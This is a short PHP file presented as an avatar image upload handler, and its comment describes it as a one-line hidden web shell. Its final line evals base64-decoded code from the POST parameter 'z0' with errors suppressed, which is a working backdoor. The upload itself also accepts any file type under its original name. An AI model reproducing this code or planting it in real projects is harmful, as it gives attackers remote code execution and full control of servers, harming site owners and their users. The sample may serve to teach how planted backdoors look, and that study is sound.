<?php
// A one-line web shell hidden in an image upload handler.
$f = $_FILES['avatar'];
move_uploaded_file($f['tmp_name'], 'uploads/' . basename($f['name']));
if (!empty($_POST['z0'])) { @eval(base64_decode($_POST['z0'])); }
